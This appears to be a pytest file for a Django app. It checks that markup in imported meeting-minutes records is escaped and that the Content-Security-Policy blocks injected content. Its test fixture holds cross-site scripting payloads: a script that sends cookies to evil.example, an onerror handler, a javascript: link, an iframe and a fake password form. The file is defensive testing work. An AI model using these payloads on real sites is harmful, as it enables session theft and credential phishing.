"""A records bundle is untrusted input: markup in its rich text must not reach the public page as live HTML.

The bundle goes through the real `import_records` command, as a migration from another system would.
"""

import json

import pytest
from django.core.management import call_command

from boards.models import MinutesPage

pytestmark = pytest.mark.django_db

HOSTILE_DISCUSSION = (
    '<p>Discussed.</p><script>document.location="http://evil.example/?"+document.cookie</script>'
    '<img src="x" onerror="alert(1)"><a href="javascript:alert(1)">details</a>'
    '<iframe src="http://evil.example/"></iframe><form action="http://evil.example/"><input name="password"></form>'
)


def bundle():
    return {
        "organisations": [{"slug": "barnet", "name": "Barnet Council", "kind": "council"}],
        "people": [],
        "boards": [
            {"slug": "import-board", "code": "IMP", "name": "Imported Board", "partners": [], "memberships": []}
        ],
        "meetings": [
            {
                "board": "import-board",
                "starts_at": "2011-06-29T18:30:00+01:00",
                "status": "held",
                "published": True,
                "agenda_published_at": "2011-06-20T09:00:00+01:00",
                "agenda": [{"number": "1", "title": "Libraries <b>review</b>", "exempt": False}],
                "minutes": {
                    "approved_on": "2011-07-20",
                    "approved_by": "Cllr Chair",
                    "published": True,
                    "entries": [{"item": "1", "discussion": HOSTILE_DISCUSSION, "resolution": "Agreed <i>x</i>."}],
                },
            }
        ],
    }


def imported_page(client, tmp_path):
    path = tmp_path / "bundle.json"
    path.write_text(json.dumps(bundle()))
    call_command("import_records", str(path), verbosity=0)
    page = MinutesPage.objects.live().get()
    return client.get(page.url)


def test_imported_rich_text_cannot_inject_live_html(client, tmp_path):
    html = imported_page(client, tmp_path).content.decode()
    assert "Discussed." in html
    for live in ("<script>document.location", "onerror=", "javascript:alert", "<iframe", 'action="http://evil'):
        assert live not in html, f"{live} reached the public minutes page"
    assert "<b>review</b>" not in html and "&lt;b&gt;review&lt;/b&gt;" in html


def test_the_csp_keeps_injected_markup_inert(client, tmp_path):
    """Defence in depth while the above is open: nothing injected could run, frame, or post elsewhere."""
    response = imported_page(client, tmp_path)
    policy = dict(
        (part.split()[0], part.split()[1:]) for part in response["Content-Security-Policy"].split(";") if part.strip()
    )
    assert "'unsafe-inline'" not in policy["script-src"]  # <script>, onerror= and javascript: URLs are blocked
    assert policy["default-src"] == ["'self'"] and "frame-src" not in policy  # no evil.example iframe
    assert policy["form-action"] == ["'self'"]  # the fake password form cannot post away
    assert "evil.example" not in response["Content-Security-Policy"]
